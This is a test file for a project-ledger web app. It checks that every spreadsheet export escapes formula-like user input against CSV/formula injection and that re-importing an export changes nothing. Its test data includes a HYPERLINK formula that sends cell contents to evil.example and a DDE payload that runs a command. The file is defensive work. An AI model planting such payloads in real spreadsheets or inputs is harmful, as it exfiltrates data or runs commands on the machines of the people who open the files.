import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { call, createTestApp, logIn, type Given, type Session, type TestApp } from '../../../test/support/test-app.ts';
import { ledgerCsvGbk, multipartBody } from '../../../test/support/ledgers.ts';
import { projects } from '../db/schema.ts';
import { isFormulaLike } from '../../domain/spreadsheet-cells.ts';
import type { TImportBatch } from '../../shared/imports.ts';

/**
 * Formula injection (issue 18, OWASP "CSV Injection"): names and notes people type — a project called
 * =HYPERLINK(…), a note "-5", a county renamed @甲县 — reach every xlsx the app writes as text beginning with ',
 * never as a formula; numbers stay numbers. The ledger import takes the ' off again, so an export re-imports
 * unchanged.
 */

const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")';
const COMMAND = '=cmd|\' /C calc\'!A0';

/** Every cell of every sheet: no formula, no text a spreadsheet would evaluate; the texts, for the checks below. */
async function cellsOf(payload: Buffer): Promise<{ texts: string[]; numbers: number[] }> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(payload as unknown as ArrayBuffer);
  const texts: string[] = [];
  const numbers: number[] = [];
  workbook.eachSheet((sheet) =>
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type, `${sheet.name}!${cell.address} is a formula`).not.toBe(ExcelJS.ValueType.Formula);
        const value = cell.value;
        const text = typeof value === 'string' ? value : value && typeof value === 'object' && 'richText' in value ? value.richText.map((r) => r.text).join('') : null;
        if (text !== null) {
          expect(isFormulaLike(text), `${sheet.name}!${cell.address} = ${JSON.stringify(text)}`).toBe(false);
          texts.push(text);
        }
        if (typeof value === 'number') numbers.push(value);
      }),
    ),
  );
  return { texts, numbers };
}

describe('formula injection in every exported spreadsheet', () => {
  let t: TestApp;
  let w: Awaited<ReturnType<Given['twoCounties']>>;
  let staffA: Session;
  let bureau: Session;

  const download = async (session: Session, url: string) => {
    const response = await call(t.app, session, 'GET', url);
    expect(response.statusCode, `${url}: ${response.body.slice(0, 300)}`).toBe(200);
    return response.rawPayload;
  };

  beforeAll(async () => {
    t = await createTestApp();
    w = await t.given.twoCounties();
    staffA = await logIn(t.app, 'staff_a');
    bureau = await logIn(t.app, 'bureau');
    const ok = async (response: { statusCode: number; body: string }) => expect(response.statusCode, response.body).toBe(200);
    await ok(await call(t.app, bureau, 'PATCH', `/api/units/${w.countyA.id}`, { name: '@甲县' }));
    await ok(await call(t.app, staffA, 'PATCH', `/api/projects/${w.projectA.id}`, { name: HYPERLINK, note: '-5', code: '+86-710', responsibleLeader: '@张三' }));
    await ok(await call(t.app, staffA, 'POST', `/api/projects/${w.projectA.id}/problems`, { category: 'land', description: COMMAND }));
  });
  afterAll(() => t?.close());

  it('the project ledger: names, notes and codes escaped, amounts still numbers', async () => {
    const { texts, numbers } = await cellsOf(await download(staffA, '/api/projects/export'));
    expect(texts).toEqual(expect.arrayContaining([`'${HYPERLINK}`, "'-5", "'+86-710", "'@张三", "'@甲县招商引资项目台账", "'@甲县"]));
    expect(numbers).toContain(10_000); // 1亿元 as 10000 万元, a number cell
  });

  it('the 督办 list', async () => {
    const { texts } = await cellsOf(await download(staffA, '/api/supervision/export'));
    expect(texts).toEqual(expect.arrayContaining([`'${HYPERLINK}`]));
  });

  it('the problems ledger', async () => {
    const { texts } = await cellsOf(await download(staffA, '/api/problems/export'));
    expect(texts).toEqual(expect.arrayContaining([`'${COMMAND}`, `'${HYPERLINK}`]));
  });

  it('the targets grid', async () => {
    const { texts } = await cellsOf(await download(bureau, '/api/targets/export?year=2026'));
    expect(texts).toContain("'@甲县");
  });

  it('the monthly bulletin', async () => {
    const { texts } = await cellsOf(await download(bureau, '/api/bulletin/export?year=2026&month=3&format=xlsx'));
    expect(texts.some((text) => text.startsWith("'@甲县"))).toBe(true);
  });

  it("an import's error file, which repeats the uploaded cells", async () => {
    const csv = ledgerCsvGbk(['项目名称', '投资主体', '总投资(万元)', '签约日期'], [['=SUM(1,2)项目', '@投资主体有限公司', '-5', '2025/8/18']]);
    const body = multipartBody('台账.csv', csv);
    const uploaded = await t.app.inject({ method: 'POST', url: '/api/imports', payload: body.payload, headers: { ...body.headers, cookie: staffA.cookie } });
    expect(uploaded.statusCode, uploaded.body).toBe(200);
    const { texts } = await cellsOf(await download(staffA, `/api/imports/${(uploaded.json() as TImportBatch).id}/errors.xlsx`));
    expect(texts).toEqual(expect.arrayContaining(["'=SUM(1,2)项目", "'@投资主体有限公司", "'-5"]));
  });

  it('re-importing the ledger export changes nothing: the escaping is read back off', async () => {
    const before = await t.db.select().from(projects).orderBy(projects.id);
    const body = multipartBody('项目台账.xlsx', await download(staffA, '/api/projects/export'));
    const response = await t.app.inject({ method: 'POST', url: '/api/imports', payload: body.payload, headers: { ...body.headers, cookie: staffA.cookie } });
    expect(response.statusCode, response.body).toBe(200);
    const batch = response.json() as TImportBatch;
    expect(batch.counts).toMatchObject({ create: 0, update: 0, refused: 0, unchanged: before.filter((p) => [w.countyA.id, w.parkA.id].includes(p.unitId)).length });
    expect((await call(t.app, staffA, 'POST', `/api/imports/${batch.id}/commit`)).statusCode).toBe(200);
    expect(await t.db.select().from(projects).orderBy(projects.id)).toEqual(before);
    expect(before.find((p) => p.id === w.projectA.id)).toMatchObject({ name: HYPERLINK, note: '-5' });
  });
});
